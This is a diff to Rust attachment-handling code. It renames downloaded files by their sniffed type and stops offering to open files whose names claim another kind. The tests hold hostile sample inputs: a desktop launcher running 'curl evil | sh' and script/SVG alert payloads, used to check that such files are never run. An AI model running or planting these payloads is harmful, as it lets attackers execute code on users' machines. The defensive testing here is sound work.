@@ -44,11 +44,16 @@ pub fn sniff(bytes: &[u8]) -> Option<&'static str> {
     (clean && !bytes.is_empty()).then_some("text/plain")
 }
 
+/// The extensions of the types the app offers to open.
+const OPENABLE_EXTS: [&str; 7] = ["png", "jpg", "jpeg", "gif", "pdf", "txt", "log"];
+
 /// How a downloaded attachment is saved: under its name, with the extension of the type
 /// its bytes are (appended when the name says otherwise: `run.desktop` holding text is
 /// saved as `run.desktop.txt`, so the desktop opens it as text and never runs it), and
 /// whether the app offers to open it: images, PDF and plain text only; an archive or
-/// anything unrecognised is only saved.
+/// anything unrecognised is only saved. Nor is a file whose name claims another kind
+/// (`run.desktop`, `page.html`, `x.svg`): the customer would expect it to act as that
+/// kind; it is only saved, as what its bytes are.
 pub fn saved_name(filename: &str, bytes: &[u8]) -> (String, bool) {
     let name = clean_filename(filename);
     let (exts, openable): (&[&str], bool) = match sniff(bytes) {
@@ -61,9 +66,11 @@ pub fn saved_name(filename: &str, bytes: &[u8]) -> (String, bool) {
         Some("application/gzip") => (&["gz"], false),
         _ => (&["bin"], false),
     };
-    let has = name.rsplit_once('.').is_some_and(|(stem, ext)| !stem.is_empty() && exts.iter().any(|e| ext.eq_ignore_ascii_case(e)));
+    let claimed = name.rsplit_once('.').filter(|(stem, _)| !stem.is_empty()).map(|(_, ext)| ext);
+    let has = claimed.is_some_and(|ext| exts.iter().any(|e| ext.eq_ignore_ascii_case(e)));
+    let claims_other = claimed.is_some_and(|ext| !OPENABLE_EXTS.iter().any(|e| ext.eq_ignore_ascii_case(e)));
     let name = if has { name } else { format!("{name}.{}", exts[0]) };
-    (name, openable)
+    (name, openable && !claims_other)
 }
 
 /// A file name safe to show and to save: the last path component, no control
@@ -111,8 +118,10 @@ mod tests {
     #[test]
     fn a_saved_file_is_named_by_what_it_is_and_only_safe_types_open() {
         let text = b"[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n";
-        assert_eq!(saved_name("run.desktop", text), ("run.desktop.txt".into(), true), "text, never a launcher");
-        assert_eq!(saved_name("page.html", b"<script>alert(1)</script>"), ("page.html.txt".into(), true));
+        assert_eq!(saved_name("run.desktop", text), ("run.desktop.txt".into(), false), "text, never a launcher, and not opened");
+        assert_eq!(saved_name("page.html", b"<script>alert(1)</script>"), ("page.html.txt".into(), false));
+        assert_eq!(saved_name("logo.svg", b"<svg onload=alert(1)></svg>"), ("logo.svg.txt".into(), false));
+        assert_eq!(saved_name("notes", b"plain words\n"), ("notes.txt".into(), true), "a name that claims nothing");
         assert_eq!(saved_name("trace.LOG", b"1  gw\n"), ("trace.LOG".into(), true));
         assert_eq!(saved_name("photo.jpeg", b"\xff\xd8\xff\xe0"), ("photo.jpeg".into(), true));
         assert_eq!(saved_name("photo.png", b"\xff\xd8\xff\xe0"), ("photo.png.jpg".into(), true), "the bytes decide");
